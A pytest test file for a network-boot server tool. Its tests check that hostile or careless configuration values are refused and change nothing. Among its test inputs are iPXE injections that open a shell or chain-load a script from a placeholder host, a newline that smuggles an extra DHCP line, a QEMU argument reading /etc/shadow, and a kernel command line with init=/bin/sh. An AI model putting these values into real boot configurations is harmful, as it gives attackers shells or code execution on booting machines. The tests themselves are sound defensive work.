"""Hostile and careless input (issue 14): every case is the real command
line on real files. A bad input gets one line naming the file, section and
key, never the file's content, exit status 2, and leaves the configuration,
the state and the generated files byte-identical."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import tempfile
from collections.abc import Callable
from pathlib import Path

import pytest

from conftest import PYTHON, REPO, cli, random_image, tree, wait_for
from test_registry import add, assert_bad_input, registry

PIVOTAL_JSON = "etc/boottorrent/pivotal.json"


def pivotal_json(state_dir: Path) -> dict:
    cpio = state_dir / "current" / "boot" / "pivotal" / "config.cpio"
    out = subprocess.run(["cpio", "-i", "--quiet", "--to-stdout", PIVOTAL_JSON],
                         input=cpio.read_bytes(), capture_output=True, check=True).stdout
    return json.loads(out)


def refused(result: subprocess.CompletedProcess, path: Path, expected: str,
            trees_before: tuple, *trees_now: Path) -> None:
    """One error line naming path and expected, exit 2, nothing changed."""
    assert_bad_input(result, str(path), expected)
    assert tuple(tree(t) for t in trees_now) == trees_before


def option_refused(result: subprocess.CompletedProcess, option: str, expected: str,
                   trees_before: tuple, *trees_now: Path) -> None:
    """add-image's options refused: one line naming the option and
    expected, not the images.d file it did not write; exit 2, nothing
    changed."""
    refused(result, f": --{option}: ", expected, trees_before, *trees_now)
    assert "images.d/" not in result.stderr, result.stderr


# ---------------------------------------------------------------- 1. the iPXE script

def image_conf_refused(name: str, settings: str, expected: str, image_files: dict,
                       config_dir: Path, state_dir: Path) -> None:
    """images.d/NAME.conf with the image's kernel and settings: add-image
    and check both refuse it, naming expected, and change nothing."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "images.d" / f"{name}.conf"
    conf.write_text(f"kernel = {image_files['vmlinuz']}\n{settings}\n")
    before = tree(config_dir), tree(state_dir)
    for command in (["add-image", name], ["check"]):
        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
        refused(result, conf, expected, before, config_dir, state_dir)


@pytest.mark.parametrize("description", [
    "'''Compute\nshell\nchain http://198.18.9.9/evil.ipxe'''",
    "x || shell",
    "${net0/mac}",
])
def test_description_cannot_reach_the_ipxe_script(description, image_files, config_dir,
                                                   state_dir):
    image_conf_refused("evil", f"description = {description}",
                       "description: must be one line of printable ASCII", image_files,
                       config_dir, state_dir)
    script = (state_dir / "current" / "boot" / "boot.ipxe").read_text()
    assert "shell" not in script and "evil" not in script


def test_description_option_is_checked_the_same_way(image_files, config_dir, state_dir):
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "evil", "--kernel", image_files["vmlinuz"],
                 "--description", "x || chain http://198.18.9.9/", config_dir=config_dir,
                 state_dir=state_dir)
    option_refused(result, "description", "must be one line", before, config_dir, state_dir)


def image_text_refused(name: str, text: str, expected: str, image_files: dict,
                       config_dir: Path, state_dir: Path) -> None:
    """images.d/NAME.conf as text: add-image and check both refuse it,
    naming expected, and change nothing."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "images.d" / f"{name}.conf"
    conf.write_text(text)
    before = tree(config_dir), tree(state_dir)
    for command in (["add-image", name], ["check"]):
        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
        refused(result, conf, expected, before, config_dir, state_dir)


def test_an_unknown_method_is_refused(image_files, config_dir, state_dir):
    image_conf_refused("vm", "method = kexex", "method: the value \"kexex\" is unacceptable",
                       image_files, config_dir, state_dir)


@pytest.mark.parametrize("settings, expected", [
    ("method = qemu\ndisk = {text}", "disk: {text}: is not a disk image"),
    ("method = qemu\ndisk = {disk}\nqemu_args = -hda /etc/shadow,",
     "qemu_args: '-hda /etc/shadow' is not one of the QEMU arguments"),
    ("method = qemu\ndisk = {disk}\nmemory = 95%",
     "memory: '95%': a share of the node's RAM is 1% to 90%"),
    ("method = qemu\ndisk = {disk}\nmemory = lots", "memory: 'lots': give a share"),
    ("method = qemu\ndisk = {disk}\nkernel = {disk}",
     "kernel: only for method kexec, and this image's method is qemu"),
    ("method = qemu", "disk: missing value (method qemu needs a disk)"),
    ("method = exec", "program: missing value (method exec needs a program)"),
    ("method = exec\nprogram = {text}", "program: {text}: is not a program"),
    ("method = exec\nprogram = {script}\nfiles = {script}, {script}",
     "files: two files are named"),
    ("kernel = {vmlinuz}\ndisk = {disk}", "disk: only for method qemu"),
])
def test_bad_qemu_and_exec_images_are_refused(settings, expected, image_files, config_dir,
                                              state_dir, tmp_path):
    from lab.diskimage import boot_sector_disk
    paths = {"disk": boot_sector_disk(tmp_path / "disk.raw", "marker"),
             "text": tmp_path / "notes.txt", "script": tmp_path / "run.sh",
             "vmlinuz": image_files["vmlinuz"]}
    paths["text"].write_text("not a disk, not a program\n")
    paths["script"].write_text("#!/bin/sh\necho hi\n")
    image_text_refused("vm", settings.format(**paths) + "\n", expected.format(**paths),
                       image_files, config_dir, state_dir)


# ---------------------------------------------------------------- 2. [server] interface

@pytest.mark.parametrize("interface", [
    "'*'", "'eth0,eth1'", "'eth 0'", "abcdefghijklmnop",
    "'''eth0\ndhcp-range=198.18.0.2,198.18.0.3'''",
])
def test_interface_must_be_an_interface_name(interface, image_files, config_dir, state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text().replace("interface = eth0", f"interface = {interface}"))
    before = tree(config_dir), tree(state_dir)
    for command in ("generate", "check"):
        result = cli(command, config_dir=config_dir, state_dir=state_dir)
        refused(result, conf, "[server] interface: ", before, config_dir, state_dir)
    assert "dhcp-range=198.18.0.2" not in (state_dir / "current" / "dnsmasq.conf").read_text()


# ---------------------------------------------------------------- 3. command lines

def test_cmdline_with_nul_is_refused(image_files, config_dir, state_dir):
    conf = config_dir / "images.d" / "nul.conf"
    conf.write_text(f"kernel = {image_files['vmlinuz']}\ncmdline = 'quiet\0init=/bin/sh'\n")
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "nul", config_dir=config_dir, state_dir=state_dir)
    refused(result, conf, "cmdline: the kernel command line must be one line without control "
            "characters", before, config_dir, state_dir)


def test_cmdline_longer_than_the_kernel_takes(image_files, config_dir, state_dir):
    # 2047 bytes in all, less the 28 of " BOOTIF=01-xx-xx-xx-xx-xx-xx" and
    # the 338 of a machine's own words ([machines]: " systemd.hostname=" and
    # 63 characters, then up to 256 of its group's cmdline).
    longest = "x" * (2047 - 28 - 338)
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "long", "--kernel", image_files["vmlinuz"],
                 "--cmdline", longest + "x", config_dir=config_dir, state_dir=state_dir)
    option_refused(result, "cmdline", "is 1682 bytes; the kernel takes at most 1681 here",
                   before, config_dir, state_dir)
    result = cli("add-image", "long", "--kernel", image_files["vmlinuz"], "--cmdline", longest,
                 config_dir=config_dir, state_dir=state_dir)
    assert result.returncode == 0, result.stderr
    assert pivotal_json(state_dir)["images"]["long"]["cmdline"] == longest


def test_pivotal_cmdline_cannot_reach_the_ipxe_script(image_files, config_dir, state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text().replace("[pivotal]\n", "[pivotal]\n"
                                             "cmdline = 'console=ttyS0 || shell'\n"))
    before = tree(config_dir), tree(state_dir)
    result = cli("generate", config_dir=config_dir, state_dir=state_dir)
    refused(result, conf, "[pivotal] cmdline: must be one line of printable ASCII", before,
            config_dir, state_dir)


# ---------------------------------------------------------------- 4. not a kernel

def test_kernel_that_is_not_a_kernel(config_dir, state_dir, tmp_path):
    text = tmp_path / "notakernel"
    text.write_text("not a kernel\n")
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "x", "--kernel", text, config_dir=config_dir, state_dir=state_dir)
    option_refused(result, "kernel", f"{text}: not an x86 Linux kernel (bzImage)", before,
                   config_dir, state_dir)


# ---------------------------------------------------------------- 5. the default image

def test_default_image_is_the_first_registered(image_files, config_dir, state_dir):
    first = add(image_files, config_dir, state_dir, name="zzz")
    assert first.returncode == 0, first.stderr
    assert "default image: zzz (the first registered;" in first.stdout
    second = add(image_files, config_dir, state_dir, name="aaa")
    assert second.returncode == 0, second.stderr
    # Registering another image does not change what unmapped machines boot.
    assert "default image: zzz (the first registered;" in second.stdout
    assert pivotal_json(state_dir)["default_image"] == "zzz"
    check = cli("check", config_dir=config_dir, state_dir=state_dir)
    assert "default image: zzz" in check.stdout, check.stderr
    # Re-registering keeps its place; removing it makes the next one default.
    (image_files["vmlinuz"]).write_bytes(image_files["vmlinuz"].read_bytes()[:-1] + b"!")
    assert cli("add-image", "zzz", config_dir=config_dir, state_dir=state_dir).returncode == 0
    assert pivotal_json(state_dir)["default_image"] == "zzz"
    removed = cli("remove-image", "zzz", config_dir=config_dir, state_dir=state_dir)
    assert "default image: aaa" in removed.stdout, removed.stderr
    assert pivotal_json(state_dir)["default_image"] == "aaa"


# ---------------------------------------------------------------- 6. FIFOs

def test_fifo_as_kernel_initrd_or_description(image_files, config_dir, state_dir, tmp_path):
    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "x", "--kernel", fifo, config_dir=config_dir,
                 state_dir=state_dir, timeout=60)
    option_refused(result, "kernel", f"{fifo}: cannot read: not a regular file", before,
                   config_dir, state_dir)
    conf = config_dir / "images.d" / "y.conf"
    conf.write_text(f"kernel = {image_files['vmlinuz']}\ninitrd = {fifo},\n")
    before = tree(config_dir), tree(state_dir)
    for command in (["add-image", "y"], ["check"]):
        result = cli(*command, config_dir=config_dir, state_dir=state_dir, timeout=60)
        refused(result, conf, f"initrd: {fifo}: cannot read: not a regular file", before,
                config_dir, state_dir)
    conf.unlink()
    os.mkfifo(conf)
    result = cli("check", config_dir=config_dir, state_dir=state_dir, timeout=60)
    assert_bad_input(result, str(conf), "cannot read: not a regular file")


# ---------------------------------------------------------------- 7. ports

@pytest.mark.parametrize("section,key", [("seeder", "port"), ("seeder", "http_port")])
def test_port_shared_with_the_tracker(section, key, image_files, config_dir, state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text() + f"[{section}]\n{key} = 6969\n")
    before = tree(config_dir), tree(state_dir)
    for command in ("check", "generate"):
        result = cli(command, config_dir=config_dir, state_dir=state_dir)
        refused(result, conf, f"[{section}] {key}: 6969 is [tracker] port already", before,
                config_dir, state_dir)


@pytest.mark.parametrize("value, expected", [
    ("8080", "'8080' is not ADDRESS:PORT (e.g. 192.0.2.10:8080"),
    ("page.example:8080", "'page.example:8080' is not ADDRESS:PORT"),
    ("10.0.0.5:80800", "'10.0.0.5:80800' is not ADDRESS:PORT"),
    ("0.0.0.0:6980", "port 6980 is [seeder] http_port on the server's address already"),
])
def test_a_status_page_address_that_cannot_be(value, expected, image_files, config_dir,
                                              state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    server_conf_refused(config_dir, state_dir, f"[seeder]\npage_address = {value}\n",
                        f"[seeder] page_address: {expected}")


RACK_B = ("[[rack-b]]\nnetwork = 198.18.2.0/24\nrouter = 198.18.2.1\n"
          "range_start = 198.18.2.100\nrange_end = 198.18.2.199\n")


@pytest.mark.parametrize("old, new, key, expected", [
    ("network = 198.18.2.0/24", "network = 198.18.2.5/24", "network",
     "'198.18.2.5/24' is not an IPv4 network like 192.0.2.0/24 (198.18.2.5/24 has host bits"),
    ("network = 198.18.2.0/24", "network = 198.18.0.0/16", "network",
     "198.18.0.0/16 overlaps 198.18.0.0/24, the server's own network"),
    ("network = 198.18.2.0/24", "network = 198.18.2.7", "network", "198.18.2.7/32 holds no "
     "machines: give the subnet's prefix"),
    ("router = 198.18.2.1\n", "", "router", "required when mode = full: the machines' gateway"),
    ("range_end = 198.18.2.199", "range_end = 198.18.3.199", "range_end",
     "198.18.3.199 is outside 198.18.2.0/24"),
    ("range_start = 198.18.2.100", "range_start = 198.18.2.200", "range_start",
     "198.18.2.200 comes after range_end 198.18.2.199"),
])
def test_a_relayed_subnet_that_cannot_be(old, new, key, expected, image_files, config_dir,
                                         state_dir):
    """[dhcp] [[NAME]]: a subnet behind a DHCP relay (boottorrent/subnets.py)."""
    def edit(text: str) -> str:  # the subsection ends [dhcp]
        assert "netmask = 255.255.255.0\n[tracker]" in text
        return text.replace("netmask = 255.255.255.0\n",
                            "netmask = 255.255.255.0\n" + RACK_B.replace(old, new))
    assert add(image_files, config_dir, state_dir).returncode == 0
    server_conf_refused(config_dir, state_dir, edit, f"[dhcp][rack-b] {key}: {expected}")


@pytest.mark.parametrize("follow, key, expected", [
    ("primary = https://198.18.0.1:6980", "primary", "'https://198.18.0.1:6980' is not a "
     "server's http://ADDRESS:PORT (e.g. http://192.0.2.1:6980, its [seeder] http_port)"),
    ("followers = http://198.18.2.10:6980, http://rack-c:6980", "followers",
     "'http://rack-c:6980' is not a server's http://ADDRESS:PORT"),
    ("primary = http://198.18.0.9:6980\nfollowers = http://198.18.2.10:6980", "followers",
     "a follower has no followers of its own: its primary lists them"),
])
def test_a_follow_setting_that_cannot_be(follow, key, expected, image_files, config_dir,
                                         state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    server_conf_refused(config_dir, state_dir, f"[follow]\n{follow}\n",
                        f"[follow] {key}: {expected}")


def test_a_follower_registers_nothing_itself(image_files, config_dir, state_dir):
    """A follower's images are its primary's (mirror.py): add-image and
    remove-image say so and change nothing; sync-images leaves the registry
    as it is, whatever images.d holds."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text() + "[follow]\nprimary = http://198.18.0.9:6980\n")
    before = tree(config_dir), tree(state_dir)
    expected = ("[follow] primary: this server follows http://198.18.0.9:6980: its images are "
                "the primary's; register or remove them there")
    refused(add(image_files, config_dir, state_dir), conf, expected, before, config_dir,
            state_dir)
    refused(cli("remove-image", "compute", config_dir=config_dir, state_dir=state_dir), conf,
            expected, before, config_dir, state_dir)
    (config_dir / "images.d" / "compute.conf").unlink()
    synced = cli("sync-images", config_dir=config_dir, state_dir=state_dir)
    assert synced.returncode == 0 and "images.d/ is not read" in synced.stdout, synced
    assert "compute" in registry(state_dir)


def test_secure_boot_in_proxy_mode_is_refused(image_files, config_dir, state_dir):
    """Debian's signed GRUB never takes a proxy DHCP answer: a server set up
    so would send Secure Boot machines to a GRUB prompt."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text().replace("mode = full", "mode = proxy")
                    .replace("[boot]\n", "[boot]\nsecure_boot = yes\n"))
    before = tree(config_dir), tree(state_dir)
    for command in ("check", "generate"):
        refused(cli(command, config_dir=config_dir, state_dir=state_dir), conf,
                "[boot] secure_boot: needs [dhcp] mode = full", before, config_dir, state_dir)


# ---------------------------------------------------------------- 9. check does not lie

def test_check_and_generate_agree_on_unregistered_default(image_files, config_dir, state_dir):
    assert add(image_files, config_dir, state_dir, name="other").returncode == 0
    (config_dir / "images.d" / "compute.conf").write_text(f"kernel = {image_files['vmlinuz']}\n")
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text().replace("[boot]\n", "[boot]\ndefault_image = compute\n"))
    before = tree(config_dir), tree(state_dir)
    expected = ("[boot] default_image: image 'compute' is described in images.d/ but not "
                "registered; run `boottorrent-add-image compute`")
    for command in ("check", "generate"):
        refused(cli(command, config_dir=config_dir, state_dir=state_dir), conf, expected,
                before, config_dir, state_dir)


def test_check_when_images_d_is_not_a_folder(config_dir, state_dir):
    images_d = config_dir / "images.d"
    images_d.rmdir()
    images_d.write_text("")
    result = cli("check", config_dir=config_dir, state_dir=state_dir)
    assert_bad_input(result, str(images_d), "cannot list: Not a directory")


def test_check_when_it_may_not_read(config_dir, state_dir, pivotal_kernel):
    """As an unprivileged user (root reads everything): a folder it may not
    list is a problem named as such, and the other problems are still shown."""
    top = Path(tempfile.mkdtemp(prefix="boottorrent-check-"))
    try:
        top.chmod(0o755)
        etc = top / "etc"
        subprocess.run(["cp", "-a", str(config_dir), str(etc)], check=True)
        etc.chmod(0o755)
        (etc / "boottorrent.conf").chmod(0o644)
        images_d = etc / "images.d"
        images_d.chmod(0o000)
        (etc / "boottorrent.conf").write_text((etc / "boottorrent.conf").read_text()
                                              + "[seeder]\nport = 6969\n")

        def check() -> subprocess.CompletedProcess:
            return subprocess.run(
                ["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups", PYTHON, "-m",
                 "boottorrent", "check", "--config-dir", str(etc), "--state-dir", str(state_dir)],
                capture_output=True, text=True, cwd=REPO, env={**os.environ,
                                                               "PYTHONPATH": str(REPO)})
        result = check()
        assert result.returncode == 2, result
        lines = result.stderr.splitlines()
        assert any(f"{images_d}: cannot list: Permission denied" in line for line in lines), lines
        assert any("[seeder] port: 6969 is [tracker] port already" in line for line in lines), lines
        assert "configuration OK" not in result.stdout

        etc.chmod(0o000)
        result = check()
        assert result.returncode == 2, result
        lines = result.stderr.splitlines()
        assert any(f"{etc}/boottorrent.conf: cannot read: Permission denied" in line
                   for line in lines), lines
        assert any(f"{images_d}: cannot list: Permission denied" in line for line in lines), lines
    finally:
        for path in (top, top / "etc", top / "etc" / "images.d"):
            if path.exists():
                path.chmod(0o755)
        subprocess.run(["rm", "-rf", str(top)], check=True)


# ---------------------------------------------------------------- 10. races and kills

def big_kernel(tmp_path: Path, mib: int = 400) -> Path:
    return random_image(tmp_path / "big", "big", {"kernel": mib << 20})["kernel"]


def add_big(kernel: Path, config_dir: Path, state_dir: Path) -> subprocess.Popen:
    return subprocess.Popen(
        [PYTHON, "-m", "boottorrent", "add-image", "big", "--kernel", str(kernel),
         "--config-dir", str(config_dir), "--state-dir", str(state_dir)],
        cwd=REPO, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)


def storing(state_dir: Path) -> bool:
    """A registration is in the middle of copying its files."""
    return any((state_dir / "images").glob(".new-*/big/kernel"))


def test_two_add_image_at_once(image_files, config_dir, state_dir, tmp_path):
    kernel = big_kernel(tmp_path, 200)
    first = add_big(kernel, config_dir, state_dir)
    wait_for(lambda: storing(state_dir) or first.poll() is not None, 60, "the first to store")
    second = add_big(kernel, config_dir, state_dir)
    results = [(p, *p.communicate(timeout=300)) for p in (first, second)]
    assert first.returncode == 0, results[0]
    _, _, stderr = results[1]
    assert second.returncode == 2, results[1]
    assert "big.conf: image 'big' exists already" in stderr
    assert list(registry(state_dir)) == ["big"]


def test_kill_during_registration_is_undone_by_the_next_command(image_files, config_dir,
                                                               state_dir, tmp_path):
    assert add(image_files, config_dir, state_dir).returncode == 0
    before = tree(config_dir), tree(state_dir)
    kernel = big_kernel(tmp_path)
    process = add_big(kernel, config_dir, state_dir)
    wait_for(lambda: storing(state_dir), 60, "the registration to be storing its files")
    assert (config_dir / "images.d" / "big.conf").exists()
    process.send_signal(signal.SIGKILL)
    process.communicate(timeout=30)
    # The next command (here one that changes nothing) undoes what was left.
    again = cli("add-image", "compute", config_dir=config_dir, state_dir=state_dir)
    assert again.returncode == 0 and "unchanged" in again.stdout, again.stderr
    assert (tree(config_dir), tree(state_dir)) == before
    # And the image can be added as if nothing had happened.
    assert add_big(kernel, config_dir, state_dir).wait(300) == 0
    assert list(registry(state_dir)) == ["compute", "big"]


# ---------------------------------------------------------------- 11. no content echoed

def test_parse_error_names_the_line_not_its_content(config_dir, state_dir, tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$y$j9T$SECRETHASH:19000:0:99999:7:::\n")
    link = config_dir / "images.d" / "leak.conf"
    link.symlink_to(secret)
    for command in (["check"], ["add-image", "leak"]):
        result = cli(*command, config_dir=config_dir, state_dir=state_dir)
        assert_bad_input(result, str(link), "line 1: not valid configobj syntax")
        assert "SECRETHASH" not in result.stdout + result.stderr


# ---------------------------------------------------------------- 3. the state folder

def test_current_naming_a_missing_snapshot_changes_nothing(image_files, config_dir, state_dir):
    """`current` pointing at a snapshot that is gone: every command says so
    and stops, rather than take the registry for empty, unregister every
    image and delete its files on the next run."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    (state_dir / "current").unlink()
    (state_dir / "current").symlink_to("snapshots/000099")
    before = tree(config_dir), tree(state_dir)
    commands = [["generate"], ["generate"], ["list"], ["check"], ["sync-images"], ["seeder"],
                ["add-image", "compute"], ["remove-image", "compute"]]
    for command in commands:
        result = cli(*command, config_dir=config_dir, state_dir=state_dir, timeout=60)
        assert_bad_input(result, str(state_dir / "current"),
                         "points to snapshots/000099, which is missing")
        assert (tree(config_dir), tree(state_dir)) == before, command


# ---------------------------------------------------------------- 4. careless admins, third round

@pytest.mark.parametrize("cmdline, expected", [
    ("a=''' b=\"\"\"", "holds both ''' and \"\"\""),
    ("a\u2028b", "the kernel command line must be one line without control"),
    ("a\u0085b", "the kernel command line must be one line without control"),
])
def test_cmdline_an_images_d_file_cannot_hold(cmdline, expected, image_files, config_dir,
                                              state_dir):
    before = tree(config_dir), tree(state_dir)
    result = cli("add-image", "odd", "--kernel", image_files["vmlinuz"], "--cmdline", cmdline,
                 config_dir=config_dir, state_dir=state_dir)
    option_refused(result, "cmdline", expected, before, config_dir, state_dir)


def test_line_separators_in_a_file_are_no_line_ends(image_files, config_dir, state_dir):
    """A U+2028 in a value is a character of the value (refused where it
    may not be), not a line break that makes a phantom line."""
    image_conf_refused("odd", "cmdline = quiet\u2028cmdline = evil",
                       "cmdline: the kernel command line must be one line without control",
                       image_files, config_dir, state_dir)


def test_a_huge_sparse_file_in_images_d_is_refused_at_once(image_files, config_dir,
                                                           state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    huge = config_dir / "images.d" / "huge.conf"
    with huge.open("wb") as file:
        file.truncate(1 << 30)
    before = tree(config_dir), tree(state_dir)
    result = cli("check", config_dir=config_dir, state_dir=state_dir, timeout=20)
    refused(result, huge, "larger than", before, config_dir, state_dir)


def test_a_config_file_with_a_byte_order_mark_is_read(image_files, config_dir, state_dir):
    """Windows editors save UTF-8 with a BOM: the same file, the same answer."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    plain = cli("check", config_dir=config_dir, state_dir=state_dir)
    assert plain.returncode == 0, plain.stderr
    for path in (config_dir / "boottorrent.conf", config_dir / "images.d" / "compute.conf"):
        path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes())
    with_bom = cli("check", config_dir=config_dir, state_dir=state_dir)
    assert (with_bom.returncode, with_bom.stdout, with_bom.stderr) == (0, plain.stdout, "")


def server_conf_refused(config_dir: Path, state_dir: Path,
                        change: str | Callable[[str], str], expected: str) -> None:
    """boottorrent.conf with change (text added, or a function of its text
    to the new text): check and generate both refuse it at once, in one
    line naming expected, and change nothing."""
    conf = config_dir / "boottorrent.conf"
    text = conf.read_text()
    conf.write_text(change(text) if callable(change) else text + change)
    before = tree(config_dir), tree(state_dir)
    for command in ("check", "generate"):
        result = cli(command, config_dir=config_dir, state_dir=state_dir, timeout=20)
        refused(result, conf, expected, before, config_dir, state_dir)
        assert len(result.stderr) < 400, len(result.stderr)


def test_a_hostname_pattern_that_asks_for_a_huge_width(image_files, config_dir, state_dir):
    assert add(image_files, config_dir, state_dir).returncode == 0
    server_conf_refused(config_dir, state_dir,
                        "[machines]\n[[rack]]\nimage = compute\nmacs = 52:54:00:00:00:01\n"
                        "hostname = {index:>300000000}\n",
                        "[machines][rack] hostname: '{index:>300000000}' is not a pattern of "
                        "{index} and {mac} (a width of more than 63")


@pytest.mark.parametrize("key, value, expected", [
    ("kernel", "/etc/passwd", "[pivotal] kernel: /etc/passwd: neither a kernel (vmlinuz) nor a "
                              "linux-image .deb"),
])
def test_a_pivotal_kernel_that_is_no_kernel(key, value, expected, config_dir, state_dir):
    conf = config_dir / "boottorrent.conf"
    conf.write_text(conf.read_text().replace("[pivotal]\n", f"[pivotal]\n{key} = {value}\n# "))
    before = tree(config_dir), tree(state_dir)
    for command in ("check", "generate"):
        result = cli(command, config_dir=config_dir, state_dir=state_dir, timeout=60)
        refused(result, conf, expected, before, config_dir, state_dir)


@pytest.mark.parametrize("address", ["0.0.0.0", "255.255.255.255", "127.0.0.1", "224.0.0.1",
                                     "198.18.0.0", "198.18.0.255"])
def test_a_server_address_no_machine_can_reach(address, config_dir, state_dir):
    conf = config_dir / "boottorrent.conf"
    text = conf.read_text().replace("address = 198.18.0.1", f"address = {address}")
    conf.write_text(text.replace("mode = full", "mode = proxy").replace("range_", "# range_"))
    before = tree(config_dir), tree(state_dir)
    for command in ("check", "generate"):
        result = cli(command, config_dir=config_dir, state_dir=state_dir, timeout=60)
        refused(result, conf, f"[server] address: {address} is not", before, config_dir,
                state_dir)


def test_a_full_state_folder_names_the_file_being_written(image_files, config_dir, state_dir):
    """snapshots/ on a tmpfs with 2 MiB free (a mount namespace of the
    command's own): the pivotal's parts cannot be copied there from the
    cache; the error names the file being written, not the cache's, and
    nothing changes."""
    assert add(image_files, config_dir, state_dir).returncode == 0
    before = tree(config_dir), tree(state_dir)
    script = ('d=$(mktemp -d) && cp -a "$1/snapshots/." "$d" && '
              'mount -t tmpfs -o size=$(( $(du -sm "$d" | cut -f1) + 2 ))m tmpfs "$1/snapshots" '
              '&& cp -a "$d/." "$1/snapshots" && rm -rf "$d" && shift && exec "$@"')
    result = subprocess.run(
        ["unshare", "--mount", "--propagation", "private", "sh", "-c", script, "sh",
         str(state_dir), PYTHON, "-m", "boottorrent", "generate", "--config-dir",
         str(config_dir), "--state-dir", str(state_dir)],
        cwd=REPO, capture_output=True, text=True, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert result.returncode == 1, result.stderr
    last = result.stderr.strip().splitlines()[-1]
    assert last.startswith(f"boottorrent: {state_dir}/snapshots/.new-") and \
        "No space left on device; nothing was changed" in last, result.stderr
    assert "/cache/" not in last, last
    assert (tree(config_dir), tree(state_dir)) == before
